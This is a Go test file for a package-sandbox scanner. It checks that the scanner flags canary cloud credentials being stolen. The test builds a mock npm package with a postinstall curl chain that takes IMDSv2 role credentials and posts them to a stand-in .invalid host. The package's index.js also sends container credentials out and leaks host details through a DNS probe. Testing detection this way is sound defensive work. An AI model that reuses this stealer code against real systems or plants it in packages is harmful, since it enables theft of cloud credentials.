package scan_test

import (
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/depbox/depbox/profile"
)

// TestCloudCredentialWorld: the instance metadata service (the IMDSv2
// token flow, with curl as in CI stealers) and the container credentials
// endpoint answer inside the sandbox with canary credentials, so that a
// theft that starts there is exfiltration of a named canary; and the
// sandbox looks like Lambda to code that checks. The package imitates
// cloud credential stealers; it runs only in the sandbox and sends only to
// *.invalid names.
func TestCloudCredentialWorld(t *testing.T) {
	install := `T=$(curl -s -X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 60" http://169.254.169.254/latest/api/token); ` +
		`R=$(curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/iam/security-credentials/); ` +
		`curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/iam/security-credentials/$R | curl -s --data-binary @- http://imds.exfil.invalid/c >/dev/null`
	index := `
const http = require('http'), os = require('os'), fs = require('fs'), dns = require('dns');
const u = new URL(process.env.AWS_CONTAINER_CREDENTIALS_FULL_URI);
http.get({ host: u.hostname, path: u.pathname }, (res) => {
  let b = ''; res.on('data', (d) => (b += d));
  res.on('end', () => {
    const r = http.request({ host: 'ecs.exfil.invalid', method: 'POST', path: '/k' }); r.end(b);
  });
}).on('error', () => {});
const probe = [os.hostname(), os.release(), fs.readFileSync('/proc/version', 'utf8').split(' ')[2]].join('.');
dns.lookup(probe.replace(/_/g, '-') + '.probe.invalid', () => {});
module.exports = 1;`
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{
		"package.json":                     `{"name":"fn","version":"1.0.0","dependencies":{"cloudy":"1.0.0"}}`,
		"index.js":                         `exports.handler = async () => 1;`,
		"node_modules/cloudy/package.json": `{"name":"cloudy","version":"1.0.0","scripts":{"postinstall":` + strconv.Quote(install) + `}}`,
		"node_modules/cloudy/index.js":     index,
	})
	p := run(t, options(t, dir))
	inst := phaseOf(t, p, "node_modules/cloudy", profile.PhaseInstall)
	if !slices.ContainsFunc(inst.Exfiltration, func(e profile.Exfil) bool {
		return e.Canary == "IMDS_SECRET_ACCESS_KEY" && e.Destination == "imds.exfil.invalid:80" && !e.Partial
	}) {
		t.Errorf("the instance role's credentials sent from the install script are not exfiltration: %+v", inst.Exfiltration)
	}
	imp := phaseOf(t, p, "node_modules/cloudy", profile.PhaseImport)
	if !slices.ContainsFunc(imp.Exfiltration, func(e profile.Exfil) bool {
		return e.Canary == "CONTAINER_SECRET_ACCESS_KEY" && e.Destination == "ecs.exfil.invalid:80"
	}) {
		t.Errorf("the container credentials sent at import are not exfiltration: %+v", imp.Exfiltration)
	}
	i := slices.IndexFunc(imp.DNS, func(q profile.DNSQuery) bool { return strings.HasSuffix(q.Name, ".probe.invalid") })
	if i < 0 {
		t.Fatalf("no probe name among %+v", imp.DNS)
	}
	probe := imp.DNS[i].Name
	if !strings.HasPrefix(probe, "169.254.") || strings.Count(probe, "amzn2") != 2 || strings.Contains(probe, "gvisor") || strings.Contains(probe, "sandbox") {
		t.Errorf("the sandbox does not look like Lambda: host name, os.release() and /proc/version gave %q", probe)
	}
}
